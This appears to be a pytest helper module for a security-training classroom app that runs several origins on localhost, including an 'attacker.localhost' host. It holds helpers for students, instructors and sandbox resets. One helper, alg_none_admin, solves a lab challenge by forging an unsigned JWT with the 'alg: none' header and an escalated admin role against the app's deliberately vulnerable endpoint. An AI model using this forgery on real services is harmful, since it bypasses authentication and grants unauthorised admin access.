"""A whole class on free loopback ports: the four dispatchers of classroom/, over real HTTP."""

import base64
import json
import re
import socket
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import pytest
import requests

from classroom import create_origin
from classroom.settings import ROLES, Settings
from tests.conftest import ServerThread, free_port, resolve_localhost_names


@dataclass
class Class:
    settings: Settings
    origins: dict
    threads: list = field(default_factory=list)

    @property
    def front(self):
        return self.settings.origin("app") + "/"

    def stop(self):
        for thread in self.threads:
            thread.stop()
            thread.server.server_close()  # free the port: a restart serves the same origins again


def start_class(folder, ports=None, **overrides):
    ports = ports or tuple(free_port() for _ in ROLES)
    settings = Settings(folder=folder, host="localhost", attacker_host="attacker.localhost", ports=ports, **overrides)
    origins = {role: create_origin(role, settings) for role in ROLES}
    running = Class(settings, origins)
    for role, origin in origins.items():
        thread = ServerThread(origin, settings.ports[ROLES.index(role)])
        thread.start()
        running.threads.append(thread)
    return running


@pytest.fixture(scope="module")
def resolving_localhost_names():
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket, "getaddrinfo", resolve_localhost_names(socket.getaddrinfo))
        yield


@pytest.fixture(scope="module")
def a_class(tmp_path_factory, resolving_localhost_names):
    """One class for a module's tests (each test joins its own students)."""
    running = start_class(tmp_path_factory.mktemp("classroom"), accept_results=True, most_per_address=1000)
    yield running
    running.stop()


def form_token(html):
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


@dataclass
class Student:
    """A student's browser, as requests: its cookies, and its sandbox's base URL on each origin."""

    http: requests.Session
    key: str
    name: str
    running: Class

    def url(self, role, path="/"):
        return f"{self.running.settings.origin(role)}/s/{self.key}{path}"


def join(running, name="Ada"):
    http = requests.Session()
    page = http.get(running.front, timeout=10)
    answer = http.post(
        running.front + "join",
        data={"name": name, "csrf_token": form_token(page.text)},
        allow_redirects=False,
        timeout=10,
    )
    assert answer.status_code == 303, answer.text
    key = urlsplit(answer.headers["Location"]).path.split("/")[2]
    return Student(http, key, name, running)


def jwt_sign_in(student, username="alice", password="wonderland"):
    answer = student.http.post(
        student.url("app", "/jwt/login"), json={"username": username, "password": password}, timeout=30
    )
    assert answer.status_code == 200, answer.text
    return answer.json()


def b64(raw):
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def alg_none_admin(student):
    """The alg-none challenge, solved as a student would: bob's naive token, unsigned, role admin."""
    student.http.get(student.url("app", "/challenges"), timeout=30)  # the lab_player cookie
    signed_in = student.http.post(
        student.url("app", "/vulnerable/jwt/login"), json={"username": "bob", "password": "thebuilder"}, timeout=30
    ).json()
    claims = json.loads(base64.urlsafe_b64decode(signed_in["access_token"].split(".")[1] + "=="))
    forged = ".".join(
        [
            b64(json.dumps({"alg": "none", "typ": "JWT"}).encode()),
            b64(json.dumps({**claims, "role": "admin"}).encode()),
            "",
        ]
    )
    return student.http.get(
        student.url("app", "/vulnerable/jwt/admin"), headers={"Authorization": f"Bearer {forged}"}, timeout=30
    )


class Instructor:
    def __init__(self, running):
        self.running = running
        self.http = requests.Session()

    def sign_in(self, password=None):
        page = self.http.get(self.running.front + "instructor/", timeout=10)
        password = password or json.loads((self.running.settings.folder / "instructor.json").read_text())["password"]
        return self.http.post(
            self.running.front + "instructor/signin",
            data={"password": password, "csrf_token": form_token(page.text)},
            allow_redirects=False,
            timeout=10,
        )

    def state(self):
        answer = self.http.get(self.running.front + "instructor/state.json", timeout=30)
        assert answer.status_code == 200, answer.text
        return answer.json()

    def student(self, name):
        return next(s for s in self.state()["students"] if s["name"] == name)

    def reset(self, handle):
        page = self.http.get(self.running.front + "instructor/", timeout=30)
        return self.http.post(
            self.running.front + "instructor/reset",
            data={"sandbox": handle, "csrf_token": form_token(page.text)},
            allow_redirects=False,
            timeout=60,
        )
